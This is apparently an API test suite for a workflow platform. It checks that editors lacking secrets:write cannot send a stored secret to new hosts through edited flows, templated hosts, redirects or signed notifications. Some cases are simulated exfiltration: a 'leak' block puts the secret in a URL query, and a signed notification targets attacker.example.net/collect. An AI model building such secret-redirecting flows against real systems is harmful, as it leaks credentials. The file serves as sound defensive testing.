/**
 * Contract, "Who may redirect a secret": an editor without secrets:write
 * cannot make a secret go anywhere it did not go before, neither by saving a
 * new version nor by changing a variable; at run time a secret without
 * allowedHosts goes only to the hosts the version writes literally.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { callJson, createFlow, token } from './helpers/api';
import { fakeUrl, received, runToEnd, setSecret, setVariable, stepOf, uniquePath } from './helpers/runs';

const SECRET = 'sk-live-redirect-4f1e8a2b9c';
const EDITOR_SCOPES = 'flows:read flows:write runs:read runs:write';
let admin: string;
let editor: string;
/** Two names of the fake API that are different hosts to the egress rules. */
let hostA: string;
let hostB: string;

beforeAll(async () => {
  admin = await token({ tenant: 'redirects' });
  editor = await token({ tenant: 'redirects', sub: 'editor', scope: EDITOR_SCOPES });
  const port = new URL(fakeUrl('/')).port;
  hostA = `127.0.0.1:${port}`;
  hostB = `localhost:${port}`;
});

const send = (url: string, extra: Record<string, unknown> = {}) => ({
  id: 'send',
  type: 'http_request',
  params: { method: 'POST', url, headers: { 'X-Key': '{{SECRETS.api_key}}' }, retries: 0, ...extra },
});

/** A flow (made by the admin) that sends `api_key` to host A, with the secret set. */
async function flowSendingToA(path: string, allowedHosts?: string[]) {
  const flow = await createFlow(admin, { blocks: [send(`http://${hostA}${path}`)] });
  await setSecret(admin, flow.id, 'api_key', SECRET, allowedHosts);
  return flow;
}

const put = (tok: string, flowId: string, blocks: unknown[]) =>
  callJson('PUT', `/v1/flows/${flowId}`, { token: tok, body: { name: 'Redirects', trigger: { type: 'manual' }, blocks } });

describe('saving a version without secrets:write', () => {
  it('is 403 when a secret would go to a host the previous version did not send it to, and changes nothing', async () => {
    const path = uniquePath('echo');
    const flow = await flowSendingToA(path);
    const res = await put(editor, flow.id, [send(`http://${hostB}${path}`)]);
    expect(res.status).toBe(403);
    expect(res.body.error.code).toBe('forbidden');
    expect(res.body.error.details).toEqual([
      {
        path: 'blocks[0].params.headers.X-Key',
        message: `block "send" would send secret "api_key" to ${hostB}, where the previous version did not send it`,
      },
    ]);
    const after = await callJson('GET', `/v1/flows/${flow.id}`, { token: editor });
    expect(after.body.version).toBe(1);
    expect(after.body.blocks[0].params.url).toBe(`http://${hostA}${path}`);
  });

  it('is 403 when a secret would go to a templated host, even one a variable now points at the same host', async () => {
    const path = uniquePath('echo');
    const flow = await flowSendingToA(path);
    await setVariable(admin, flow.id, 'host', hostA);
    const res = await put(editor, flow.id, [send(`http://{{VARIABLES.host}}${path}`)]);
    expect(res.status).toBe(403);
    expect(res.body.error.details[0].message).toBe('block "send" would send secret "api_key" to a templated host');
  });

  it('is 403 for a secret moved into a new block that sends elsewhere, naming that block', async () => {
    const path = uniquePath('echo');
    const flow = await flowSendingToA(path);
    const res = await put(editor, flow.id, [
      send(`http://${hostA}${path}`),
      { id: 'leak', type: 'http_request', params: { method: 'GET', url: `http://${hostB}${path}?k={{SECRETS.api_key}}` } },
    ]);
    expect(res.status).toBe(403);
    expect(res.body.error.details).toHaveLength(1);
    expect(res.body.error.details[0]).toMatchObject({ path: 'blocks[1].params.url', message: expect.stringContaining('block "leak"') });
  });

  it('is allowed when every secret goes where it went before, wherever in the request it sits', async () => {
    const path = uniquePath('echo');
    const flow = await flowSendingToA(path);
    const res = await put(editor, flow.id, [
      { id: 'note', type: 'log', params: { message: 'sending' } },
      send(`http://${hostA}${path}/other?k={{SECRETS.api_key}}`, { body: { key: '{{SECRETS.api_key}}' } }),
    ]);
    expect(res.status).toBe(200);
    expect(res.body.version).toBe(2);
  });

  it('is allowed to a caller with secrets:write, who may also set the secret where it goes', async () => {
    const path = uniquePath('echo');
    const flow = await flowSendingToA(path);
    expect((await put(admin, flow.id, [send(`http://${hostB}${path}`)])).status).toBe(200);
    expect((await put(admin, flow.id, [send(`http://{{VARIABLES.host}}${path}`)])).status).toBe(200);
  });
});

describe('at run time, a secret without allowedHosts', () => {
  it('is never sent through a templated host, whatever the variable says', async () => {
    const path = uniquePath('echo');
    const flow = await createFlow(admin, { blocks: [send(`http://{{VARIABLES.host}}${path}`)] });
    await setSecret(admin, flow.id, 'api_key', SECRET);
    await setVariable(editor, flow.id, 'host', hostB); // an editor may change variables
    const { run } = await runToEnd(editor, flow.id);
    expect(run.status).toBe('failed');
    expect(stepOf(run, 'send').error).toBe(
      'secret "api_key" has no allowedHosts, so it is never sent to a templated host ({{VARIABLES.host}}); set its allowedHosts or write the host literally',
    );
    expect(await received(path)).toHaveLength(0);
  });

  it('goes through a templated host that its allowedHosts covers', async () => {
    const path = uniquePath('echo');
    const flow = await createFlow(admin, { blocks: [send(`http://{{VARIABLES.host}}${path}`)] });
    await setSecret(admin, flow.id, 'api_key', SECRET, [hostA]);
    await setVariable(admin, flow.id, 'host', hostA);
    const { run } = await runToEnd(admin, flow.id);
    expect(run.status).toBe('succeeded');
    expect((await received(path))[0]?.headers['x-key']).toBe(SECRET);
    await setVariable(editor, flow.id, 'host', hostB);
    const moved = await runToEnd(editor, flow.id);
    expect(stepOf(moved.run, 'send').error).toMatch(/secret "api_key" may not be sent to \{\{VARIABLES\.host\}\}/);
  });

  it('is not carried by a redirect to a host the version does not write, in a kept body (307)', async () => {
    const path = uniquePath('echo');
    const target = `http://${hostB}${path}`;
    const flow = await createFlow(admin, {
      blocks: [
        {
          id: 'send',
          type: 'http_request',
          params: {
            method: 'POST',
            url: fakeUrl(`/redirect?status=307&to=${encodeURIComponent(target)}`),
            body: { key: '{{SECRETS.api_key}}' },
            retries: 0,
          },
        },
      ],
    });
    await setSecret(admin, flow.id, 'api_key', SECRET);
    const { run } = await runToEnd(admin, flow.id);
    expect(stepOf(run, 'send').error).toBe(
      `secret "api_key" may not be sent to ${hostB}: without allowedHosts a secret goes only to hosts written in the flow`,
    );
    expect(await received(path)).toHaveLength(0);
  });

  it('follows a redirect to a host the version writes literally, and one that drops the secret anywhere', async () => {
    const kept = uniquePath('echo');
    const dropped = uniquePath('echo');
    const flow = await createFlow(admin, {
      blocks: [
        {
          id: 'send',
          type: 'http_request',
          params: {
            method: 'POST',
            url: fakeUrl(`/redirect?status=307&to=${encodeURIComponent(`http://${hostB}${kept}`)}`),
            body: { key: '{{SECRETS.api_key}}' },
            retries: 0,
          },
        },
        // A 302 turns the POST into a GET without the body, and the cross-origin hop drops X-Key.
        {
          id: 'other',
          type: 'http_request',
          params: {
            method: 'POST',
            url: fakeUrl(`/redirect?to=${encodeURIComponent(`http://${hostB}${dropped}`)}`),
            headers: { 'X-Key': '{{SECRETS.api_key}}' },
            body: { key: '{{SECRETS.api_key}}' },
            retries: 0,
          },
        },
        { id: 'named', type: 'http_request', params: { method: 'GET', url: `http://${hostB}${kept}/literal` } },
      ],
    });
    await setSecret(admin, flow.id, 'api_key', SECRET);
    const { run } = await runToEnd(admin, flow.id);
    expect(run.status).toBe('succeeded');
    const [first] = await received(kept);
    expect(JSON.parse(first!.body)).toEqual({ key: SECRET });
    const [second] = await received(dropped);
    expect(second!.method).toBe('GET');
    expect(second!.headers['x-key']).toBeUndefined();
  });
});

describe('signatures made with a secret, without secrets:write', () => {
  const notify = (url: string, signingSecret?: string) => ({ url, on: ['failed'], ...(signingSecret ? { signingSecret } : {}) });
  const putNotify = (tok: string, flowId: string, path: string, value: unknown) =>
    callJson('PUT', `/v1/flows/${flowId}`, {
      token: tok,
      body: { name: 'Redirects', trigger: { type: 'manual' }, blocks: [send(`http://${hostA}${path}`)], notify: value },
    });

  it('cannot start signing notifications with a secret, nor send signed ones to another URL', async () => {
    const path = uniquePath('echo');
    const flow = await flowSendingToA(path);
    const signing = await putNotify(editor, flow.id, path, notify('https://hooks.example.com/a', 'api_key'));
    expect(signing.status).toBe(403);
    expect(signing.body.error.details).toEqual([
      { path: 'notify', message: 'notifications signed with secret "api_key" would go where the previous version did not send them' },
    ]);
    expect((await putNotify(admin, flow.id, path, notify('https://hooks.example.com/a', 'api_key'))).status).toBe(200);
    const moved = await putNotify(editor, flow.id, path, notify('https://attacker.example.net/collect', 'api_key'));
    expect(moved.status).toBe(403);
    // Unsigned notifications carry no secret: an editor may point them anywhere.
    expect((await putNotify(editor, flow.id, path, notify('https://attacker.example.net/collect'))).status).toBe(200);
  });

  it('may keep signed notifications as they were while changing other things', async () => {
    const path = uniquePath('echo');
    const flow = await flowSendingToA(path);
    expect((await putNotify(admin, flow.id, path, notify('https://hooks.example.com/b', 'api_key'))).status).toBe(200);
    expect((await putNotify(editor, flow.id, path, notify('https://hooks.example.com/b', 'api_key'))).status).toBe(200);
  });
});
